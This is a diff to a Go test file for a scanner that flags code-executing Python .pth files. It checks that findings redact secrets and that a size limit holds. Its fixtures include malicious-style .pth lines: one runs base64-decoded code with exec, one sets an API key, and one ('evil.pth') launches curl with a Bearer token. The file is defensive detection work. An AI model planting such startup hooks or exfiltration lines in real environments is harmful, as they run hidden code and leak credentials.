@@ -1,6 +1,9 @@
 package python
 
 import (
+	"bytes"
+	"encoding/json"
+	"errors"
 	"strings"
 	"testing"
 
@@ -55,7 +58,6 @@ func TestPthClassification(t *testing.T) {
 		exec    int    // executed lines
 		allowed string // allow rule for every executed line ("" = not all allowed)
 		why     string // Suspicion of the first non-allowed line
-		binary  bool
 	}
 	for _, tc := range []struct {
 		file string
@@ -74,16 +76,10 @@ func TestPthClassification(t *testing.T) {
 		{"formfeed.pth", want{exec: 2, why: "decodes and executes code"}},
 		{"unknown-hook.pth", want{exec: 1}},
 		{"paths-only.pth", want{exec: 0}},
-		{"junk.pth", want{binary: true}},
+		{"junk.pth", want{exec: 0}}, // binary, and no line starts with "import "
 	} {
 		t.Run(tc.file, func(t *testing.T) {
 			b := sweeptest.Testdata(t, "pth/"+tc.file)
-			if IsBinary(b) != tc.want.binary {
-				t.Fatalf("IsBinary = %v", !tc.want.binary)
-			}
-			if tc.want.binary {
-				return
-			}
 			lines := ExecLines(b)
 			if len(lines) != tc.want.exec {
 				t.Fatalf("%d executed lines %+v, want %d", len(lines), lines, tc.want.exec)
@@ -141,5 +137,76 @@ func TestExecLineSplitting(t *testing.T) {
 		if strings.Join(got, "|") != strings.Join(tc.want, "|") {
 			t.Errorf("ExecLines(%q) = %q, want %q", tc.in, got, tc.want)
 		}
+	}
+}
+
+func TestCodeShape(t *testing.T) {
+	const canary = "CANARYs3cr3tV4lue0123456789"
+	for _, tc := range []struct{ in, want string }{
+		{`import os; exec(__import__('base64').b64decode('` + canary + `'))`, `import os; exec(__import__('…').b64decode('…'))`},
+		{`import os;os.environ["OPENAI_API_KEY"]="` + canary + `"`, `import os;os.environ["…"]="…"`},
+		{`import _virtualenv`, `import _virtualenv`},
+		{`import sys; p = getattr(sys, 'abc', 0)`, `import sys; p = getattr(sys, 'abc', 0)`},
+		{`import x # ` + canary, `import x #…`},
+		{`import x; y = b"""` + canary + `"""`, `import x; y = b"""…"""`},
+		{`import x; y = rb'` + canary, `import x; y = rb'…'`},
+		{`import x; y = ` + canary + canary, `import x; y = …`},
+		{`import x; y = QUJD+REVG/R0hJSktMTU5PUFFSU1RVVldYWVo=`, `import x; y = …`},
+		{"import x\x1b[31m\u202e; y = 'é'", `import x…[31m…; y = '…'`},
+		{`import x; y = 'a\'` + canary + `'`, `import x; y = '…'`},
+	} {
+		got := CodeShape(tc.in)
+		if got != tc.want {
+			t.Errorf("CodeShape(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+		if strings.Contains(got, canary) || strings.Contains(got, "s3cr3t") {
+			t.Errorf("CodeShape(%q) leaks the canary: %q", tc.in, got)
+		}
+	}
+	long := "import x; " + strings.Repeat("a.b(c); ", 100)
+	if got := CodeShape(long); len(got) > maxShape+len("…") {
+		t.Errorf("CodeShape of %d bytes = %d bytes", len(long), len(got))
+	}
+}
+
+// TestPthEvidenceCanary: a secret in a long literal of an executed line
+// never reaches a finding or error, whatever the line is judged.
+func TestPthEvidenceCanary(t *testing.T) {
+	const canary = "LSCANARYq8w7e6r5t4y3u2i1o0"
+	root := t.TempDir()
+	site := "/home/u/.venv/lib/python3.12/site-packages"
+	files := map[string]string{
+		"evil.pth":    `import os, subprocess; subprocess.Popen(["curl", "-H", "Authorization: Bearer ` + canary + `", "https://x"])` + "\n",
+		"odd.pth":     `import os; os.environ.setdefault("TOKEN", "` + canary + `")` + "\n",
+		"binary.pth":  "\x00\x01\xff\n" + `import os; k = '` + canary + `'` + "\n",
+		"comment.pth": `import site # ` + canary + "\n",
+	}
+	for n, body := range files {
+		sweeptest.WriteFile(t, root, site+"/"+n, []byte(body))
+	}
+	res := sweepTree(t, root, sweeptest.Matcher(t), 64<<20)
+	if len(res.findings) != len(files) {
+		res.dump(t)
+		t.Fatalf("%d findings, want %d", len(res.findings), len(files))
+	}
+	b, err := json.Marshal([]any{res.findings, res.errors})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Contains(b, []byte(canary)) || bytes.Contains(b, []byte("q8w7e6")) {
+		t.Errorf("canary in findings: %s", b)
+	}
+}
+
+func TestScanPthLimit(t *testing.T) {
+	body := []byte(strings.Repeat("# comment\n", 1000) + "import evil\n")
+	var got []PthLine
+	st, err := ScanPth(bytes.NewReader(body), 5000, false, func(l PthLine) { got = append(got, l) })
+	if !errors.Is(err, ErrPthTooLarge) || st.Bytes != 5000 || len(got) != 0 {
+		t.Errorf("limit 5000: err %v, bytes %d, lines %v", err, st.Bytes, got)
+	}
+	st, err = ScanPth(bytes.NewReader(body), int64(len(body)), false, func(l PthLine) { got = append(got, l) })
+	if err != nil || len(got) != 1 || got[0].N != 1001 {
+		t.Errorf("exact limit: err %v, bytes %d, lines %+v", err, st.Bytes, got)
 	}
 }
